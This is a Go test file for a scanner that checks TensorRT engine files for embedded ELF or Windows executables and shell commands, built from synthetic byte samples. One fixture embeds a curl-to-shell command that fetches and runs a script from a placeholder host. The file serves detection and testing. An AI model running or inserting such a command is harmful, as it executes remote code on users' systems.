package tensorrt_test

import (
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/scantest"
	"modelwall/scan/tensorrt"
)

// elf is the header of a program for a machine.
func elf(machine byte) string {
	return "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 9) + "\x03\x00" + string([]byte{machine, 0}) + strings.Repeat("\x00", 100)
}

func samples() []scantest.Sample {
	const info, sus = scan.Info, scan.SeveritySuspicious
	noise := strings.Repeat("\x01\x02\x9f\xc3", 8_000)
	return []scantest.Sample{
		{Name: "engine", Data: []byte("ptrt\x00\x00\x00\x00" + noise + elf(190) + "EfficientNMS_TRT\x00" + noise), Worst: info},
		{Name: "old mark", Data: []byte("ftrt" + noise), Worst: info},
		{Name: "host code", Data: []byte("ptrt\x00\x00\x00\x00" + noise + elf(62) + noise), Worst: sus},
		{Name: "host code across pieces", Data: []byte("ftrt" + strings.Repeat("\x01", 256<<10-4-30) + elf(183)), Worst: sus},
		{Name: "host code for Windows", Data: []byte("ptrt" + noise + "MZ" + strings.Repeat("\x00", 58) + "\x80\x00\x00\x00" + strings.Repeat("\x00", 64) + "PE\x00\x00"), Worst: sus},
		{Name: "letters", Data: []byte("ptrt" + noise + strings.Repeat("MZ", 400) + "PE\x00\x00"), Worst: info},
		{Name: "command", Data: []byte("ftrt\x00\x00" + noise + "bash -c 'curl http://x.example/p.sh | sh'\x00"), Worst: sus},
	}
}

func TestScanner(t *testing.T) { scantest.Run(t, tensorrt.New(), samples()) }

func FuzzScan(f *testing.F) {
	f.Add([]byte("ptrt" + elf(62)))
	f.Add([]byte("ftrt" + elf(190)))
	s := tensorrt.New()
	f.Fuzz(func(t *testing.T, b []byte) { scantest.Fuzz(t, s, b) })
}
